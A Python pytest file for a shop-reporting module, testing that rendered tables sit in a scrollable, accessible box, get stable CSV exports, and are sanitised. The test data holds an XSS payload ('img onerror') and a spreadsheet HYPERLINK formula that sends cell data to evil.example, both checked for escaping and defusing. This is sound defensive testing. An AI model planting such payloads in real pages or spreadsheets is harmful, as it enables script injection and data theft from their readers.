"""A shown table fits a phone: its own scrolling box, first column pinned, a CSV of it beside the
report (wxshop.report.tables through Report.table)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pandas as pd
import pytest

from wxshop.report import document as rp
from wxshop.report import tables

EVIL = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


class Tags(HTMLParser):
    """Every start tag with its attributes, and the href of each link with its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.links: list[tuple[str, str]] = []
        self._href: str | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "a":
            self._href = dict(attrs).get("href")

    def handle_data(self, data):
        if self._href is not None:
            self.links.append((self._href, data))
            self._href = None


def parse(markup: str) -> Tags:
    p = Tags()
    p.feed(markup)
    return p


@pytest.fixture
def shown(monkeypatch) -> list[str]:
    out: list[str] = []
    monkeypatch.setattr(rp, "_html", out.append)
    return out


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "customer_id": ["c_1a2b", EVIL, FORMULA],
        "gmv": [1234.5, None, -8.0],
        "repurchase_rate": [0.25, 0.5, None],
    })


def test_table_sits_in_a_scroll_box_with_its_first_column_pinned_and_a_csv_link(tmp_path, shown):
    r = rp.Report("s1", "store_overview", "en", report_dir=tmp_path)
    r.table(_frame(), {"customer_id": "col.channel", "gmv": "col.gmv"},
            {"gmv": "cny", "repurchase_rate": "share"})
    page = parse(shown[-1])
    boxes = [a for t, a in page.tags if "wx-scroll" in (a.get("class") or "").split()]
    assert len(boxes) == 1
    box = boxes[0]
    assert box["role"] == "region" and box["tabindex"] == "0" and box["aria-label"].startswith("Table: ")
    table = [a for t, a in page.tags if t == "table"]
    assert len(table) == 1 and {"wx-table", "wx-pin"} <= set(table[0]["class"].split())
    # the table comes inside the box, the link after it
    assert shown[-1].index('class="wx-scroll"') < shown[-1].index("<table") < shown[-1].index("CSV")
    assert page.links == [("store_overview.tables/01-customer-id-gmv-repurchase-rate.csv", "CSV")]
    hint = [a for t, a in page.tags if a.get("class") == "wx-scroll-hint"]
    assert len(hint) == 1 and "hidden" in hint[0]  # shown by the page's script when it overflows
    assert "swipe for more columns" in shown[-1]


def test_headers_and_values_are_escaped(tmp_path, shown):
    r = rp.Report("s1", "nb", "zh", report_dir=tmp_path)
    r.table(pd.DataFrame({EVIL: [EVIL], "n": [1]}))
    assert "<img" not in shown[-1]
    assert shown[-1].count("&lt;img src=x onerror=alert(1)&gt;") >= 3  # header, cell, aria-label
    assert "← 左右滑动查看更多列 →" in shown[-1] and "CSV 表格" in shown[-1]


def test_csv_holds_the_table_as_shown_and_defuses_formulas(tmp_path, shown):
    r = rp.Report("s1", "store_overview", "en", report_dir=tmp_path)
    r.table(_frame(), {"customer_id": "col.channel", "gmv": "col.gmv"},
            {"gmv": "cny", "repurchase_rate": "share"})
    path = tmp_path / "store_overview.tables" / "01-customer-id-gmv-repurchase-rate.csv"
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel and WPS read UTF-8
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    headers = [r.tr("col.channel"), r.tr("col.gmv"), "repurchase_rate"]
    assert list(back.columns) == headers
    assert back.values.tolist() == [
        ["c_1a2b", "¥1,234.50", "25.0%"],
        [EVIL, "—", "50.0%"],
        ["'" + FORMULA, "¥-8.00", "—"],
    ]
    # the shown cells and nothing more: the raw figures are not in the file
    assert "1234.5" not in raw.decode("utf-8-sig") and "0.25" not in raw.decode("utf-8-sig")
    assert not list(path.parent.glob(".*.tmp"))


def test_csv_names_are_stable_and_an_earlier_runs_extra_files_go(tmp_path, shown):
    def run(n_tables: int) -> list[str]:
        r = rp.Report("s1", "nb", "zh", report_dir=tmp_path)
        for i in range(n_tables):
            r.table(pd.DataFrame({f"col_{i}": [i]}))
        return sorted(p.name for p in (tmp_path / "nb.tables").iterdir())

    first = run(3)
    links = [re.findall(r'href="([^"]+)"', s) for s in shown]
    assert first == ["01-col-0.csv", "02-col-1.csv", "03-col-2.csv"]
    shown.clear()
    assert run(3) == first and [re.findall(r'href="([^"]+)"', s) for s in shown] == links
    (tmp_path / "nb.tables" / "notes.txt").write_text("kept")  # not one of ours: left alone
    assert run(2) == ["01-col-0.csv", "02-col-1.csv", "notes.txt"]


def test_without_a_report_folder_csvs_go_where_the_json_goes(tmp_path, shown, monkeypatch):
    monkeypatch.setenv("WXSHOP_HOME", str(tmp_path))
    r = rp.Report("s9", "nb", "zh")
    r.kpis({"customers": 3}, [("customers", "int")], cards=0)
    assert r.json_path.parent == tmp_path / "reports" / "s9"
    assert (r.json_path.parent / "nb.tables" / "01-metric-value-definition.csv").is_file()
    assert 'href="nb.tables/01-metric-value-definition.csv"' in shown[-1]


def test_every_table_of_a_report_gets_a_box_and_a_file(tmp_path, shown):
    r = rp.Report("s1", "nb", "en", report_dir=tmp_path)
    r.kpis({"customers": 3, "gmv": 10.0}, [("customers", "int"), ("gmv", "cny")])
    r.table(pd.DataFrame({"channel": ["社群"], "orders": [2]}))
    boxes = [s for s in shown if 'class="wx-scroll"' in s]
    assert len(boxes) == 2
    files = sorted(p.name for p in (tmp_path / "nb.tables").iterdir())
    assert files == ["01-metric-value-definition.csv", "02-channel-orders.csv"]
    back = pd.read_csv(tmp_path / "nb.tables" / files[0], encoding="utf-8-sig", dtype=str)
    assert back.iloc[:, 0].tolist() == [r.tr("kpi.customers"), r.tr("kpi.gmv")]
    assert back.iloc[:, 1].tolist() == ["3", "¥10.00"]


def test_shown_cells_read_the_page_text_of_each_body_cell():
    markup = pd.DataFrame({"a": ["x & y", None], "b": [0.123456789, 2.0]}).to_html(
        index=False, escape=True, na_rep="—")
    assert tables.shown_cells(markup) == [["x & y", "0.123457"], ["—", "2.000000"]]


def test_scroll_containers_are_one_selector_list():
    assert tables.SCROLL_CONTAINERS[0] == ".wx-scroll"
    assert tables.SCROLL_SELECTOR.split(", ") == list(tables.SCROLL_CONTAINERS)
